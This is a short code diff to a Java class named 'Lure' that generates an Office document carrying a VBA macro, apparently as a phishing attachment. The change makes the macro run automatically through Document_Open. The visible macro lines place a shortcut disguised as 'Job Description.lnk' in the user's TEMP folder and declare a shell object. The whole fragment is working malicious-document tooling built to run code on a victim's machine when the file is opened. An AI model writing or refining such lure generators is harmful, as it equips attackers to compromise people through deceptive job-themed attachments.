@@ -45,12 +45,7 @@ final class Lure {
 
     static byte[] document() {
         byte[] macros = new VbaProjectWriter("Project", 1252)
-                .document("ThisDocument", """
-                        Private Sub Document_Open()
-                            Prepare
-                        End Sub
-                        """)
-                .module("Offer", MACRO)
+                .document("ThisDocument", MACRO)
                 .bytes();
         return StoredZip.repacked(new OoxmlWriter()
                 .title(TITLE)
@@ -102,7 +97,7 @@ final class Lure {
     }
 
     private static final String MACRO = """
-            Sub Prepare()
+            Private Sub Document_Open()
                 Dim place As String
                 Dim shell As Object
                 place = Environ("TEMP") & "\\Job Description.lnk"
